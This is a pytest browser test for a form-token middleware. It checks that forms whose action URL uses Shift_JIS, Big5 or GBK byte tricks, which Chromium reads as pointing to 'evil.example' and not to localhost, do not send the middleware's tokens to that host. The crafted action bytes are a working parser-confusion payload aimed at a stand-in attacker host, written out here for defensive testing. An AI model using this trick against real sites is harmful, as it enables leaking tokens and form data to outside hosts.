"""URLs in multi-byte charsets: Chromium's reading of an action's bytes decides where it goes.

In Shift_JIS, Big5 and GBK a lead byte followed by "@" is one character to Chromium (the WHATWG
tables: "①" for 0x87 0x40 in Shift_JIS), where Python's older tables ("shift_jis", "big5",
"gb2312") read an unknown character and "@". So ``http://evil.example`` 0x87 0x40
``localhost:PORT/ok`` is this host's (user "evil.example?") to them, and to Chromium the host
``evil.example1localhost``. Each page is served by waitress through the middleware at
``http://localhost:PORT`` and loaded with scripting off; the button is clicked and the request
that leaves for the other host must carry neither token.
"""

from __future__ import annotations

import secrets
from typing import Any

import pytest

from postback_middleware import PostbackMiddleware

pytestmark = pytest.mark.browser

# name -> (charset, the two bytes between "http://evil.example" and "localhost")
CASES = {
    "shift_jis": ("shift_jis", b"\x87\x40"),
    "big5": ("big5", b"\x87\x40"),
    "gb2312": ("gb2312", b"\x81\x40"),
}


@pytest.fixture(scope="module")
def app_url(serve: Any) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> Any:
        charset, between = CASES[environ["PATH_INFO"].strip("/")]
        action = (b"http://evil.example" + between + b"localhost:"
                  + environ["SERVER_PORT"].encode() + b"/ok")
        start_response("200 OK", [("Content-Type", f"text/html; charset={charset}")])
        return [b'<!DOCTYPE html><title>t</title><form method="post" action="' + action
                + b'"><input name="q" value="1"><button id="go">go</button></form>']

    with serve(PostbackMiddleware(app, secret_keys=[secrets.token_urlsafe(48)])) as url:
        yield url.replace("127.0.0.1", "localhost")


@pytest.mark.parametrize("name", list(CASES))
def test_an_action_chromium_reads_as_another_host_gets_no_tokens(browser: Any, app_url: str,
                                                                 name: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        page.route(lambda url: "//evil." in url,
                   lambda route, request: route.fulfill(status=200, body="x"))
        page.goto(f"{app_url}/{name}")
        assert page.evaluate("new URL(document.forms[0].action).hostname").startswith("evil.")
        with page.expect_request(lambda r: "//evil." in r.url) as sent:
            page.click("#go")
        assert "q=1" in (sent.value.post_data or "")
        assert "__VIEWSTATE" not in (sent.value.post_data or "")
    finally:
        context.close()
